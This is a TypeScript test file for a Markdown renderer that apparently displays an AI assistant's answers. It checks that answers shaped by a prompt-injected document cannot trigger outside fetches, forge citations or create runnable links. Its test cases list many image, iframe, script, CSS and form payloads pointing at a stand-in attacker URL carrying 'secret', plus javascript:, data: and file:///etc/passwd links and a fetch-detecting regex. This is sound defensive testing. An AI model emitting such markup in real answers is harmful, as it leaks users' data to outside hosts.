import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { I18nextProvider } from 'react-i18next';
import { describe, expect, it } from 'vitest';
import { createI18n } from '../kit/i18n.ts';
import { desktopKey } from '../kit/desktop.ts';
import { bindService } from '../kit/service.tsx';
import { Markdown } from './markdown.tsx';

const elsewhere = 'https://evil.example/x?q=secret';

/** What stands in the window for an answer, without a browser that would run effects. */
function shown(text: string): string {
  const view = createElement(Markdown, {
    text,
    streaming: false,
    cited: new Set([1]),
    onCite: () => undefined,
  });
  return renderToStaticMarkup(
    createElement(I18nextProvider, { i18n: createI18n('en') }, bindService(desktopKey, null)(view)),
  );
}

/**
 * Attributes that make a browser fetch an address by itself (HTML standard, each element's "source"
 * steps).
 */
const fetching = new RegExp(
  [
    String.raw`\s(?:src|srcset|poster|background|data|action|formaction|ping|xlink:href)="[^"]*evil`,
    String.raw`url\([^)]*evil`,
    String.raw`<(?:link|base|meta|iframe|object|embed|script|image|use)\b`,
  ].join('|'),
  'i',
);

describe('an answer that a document has given orders to', () => {
  it.each([
    `![chart](${elsewhere})`,
    `![chart][ref]\n\n[ref]: ${elsewhere}`,
    `[![chart](${elsewhere})](${elsewhere})`,
    `<img src="${elsewhere}" srcset="${elsewhere} 2x">`,
    `<picture><source srcset="${elsewhere}"><img src="${elsewhere}"></picture>`,
    `<div style="background:url(${elsewhere})">text</div>`,
    `<video src="${elsewhere}" poster="${elsewhere}" autoplay></video><audio src="${elsewhere}"></audio>`,
    `<iframe src="${elsewhere}"></iframe><object data="${elsewhere}"></object><embed src="${elsewhere}">`,
    `<link rel="stylesheet" href="${elsewhere}"><base href="${elsewhere}"><meta ` +
      `http-equiv="refresh" content="0;url=${elsewhere}">`,
    `<svg><image href="${elsewhere}"/><use href="${elsewhere}"/></svg>`,
    `<input type="image" src="${elsewhere}"><form action="${elsewhere}"><button ` +
      `formaction="${elsewhere}">go</button></form>`,
    `<table background="${elsewhere}"><tr><td background="${elsewhere}">x</td></tr></table>`,
    `<a href="${elsewhere}" ping="${elsewhere}">x</a><script src="${elsewhere}"></script>`,
  ])('%s fetches nothing by being read', (text) => {
    expect(shown(text)).not.toMatch(fetching);
  });

  it.each([
    '[see](#source-7)',
    '[see](#source-1)',
    '<a href="#source-1">see</a>',
    '[see][r]\n\n[r]: #source-7',
  ])('%s is no citation: only the app makes those', (text) => {
    expect(shown('It ends in June [1].')).toContain('data-testid="citation"');
    expect(shown(text)).toContain('see');
    expect(shown(text)).not.toContain('data-testid="citation"');
  });

  it('shows the address of a link, and makes none that runs', () => {
    expect(shown(`[your bank](${elsewhere})`)).toContain(`title="${elsewhere}"`);
    for (const address of [
      'javascript:alert(1)',
      'data:text/html,x',
      'file:///etc/passwd',
      'hearth://settings',
    ])
      expect(shown(`[x](${address})`)).not.toMatch(/href="(?!#)/);
  });

  it('still has its citations', () => {
    expect(shown('It ends in May [1]. Not [2].')).toMatch(
      /data-testid="citation"[^>]*>1<\/button>\. Not \[2\]\./,
    );
  });
});
